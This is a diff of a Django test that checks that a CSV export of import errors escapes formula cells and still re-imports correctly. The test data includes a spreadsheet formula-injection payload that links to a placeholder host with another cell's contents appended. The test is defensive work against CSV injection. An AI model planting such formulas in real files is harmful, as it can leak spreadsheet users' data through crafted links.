@@ -139,13 +139,14 @@ def test_no_cell_of_the_file_of_errors_is_a_formula_and_it_can_be_uploaded_again
     assert response["Content-Type"].startswith("text/csv")
     assert AccessRecord.objects.filter(action="export", subject_id=str(batch.pk)).exists()
     rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
-    assert [row[-2] for row in rows] == ["Row", "3"]
+    assert [row[-2] for row in rows] == [f"Row of list {batch.pk}", "3"]
     cells = [cell for row in rows for cell in row if cell]
     assert [cell for cell in cells if cell[0] in "=+-@\t\r"] == []
     assert rows[1][0] == '\'=HYPERLINK("http://x/"&A2)'
     again = SimpleUploadedFile("again.csv", response.content)
-    dana.post(ADD, {"file": again, "location": practice.riverside.pk})
-    assert ImportBatch.objects.latest("pk").rows.get().cells[0] == '=HYPERLINK("http://x/"&A2)'
+    answer = dana.post(ADD, {"file": again, "location": practice.riverside.pk})
+    assert said(dana, answer) == "1 row is in the file as before."
+    assert ImportBatch.objects.get().rows.get(number=3).cells[0] == '=HYPERLINK("http://x/"&A2)'
 
 
 def test_odd_names_are_shown_as_text(dana: Client, practice: Practice) -> None:
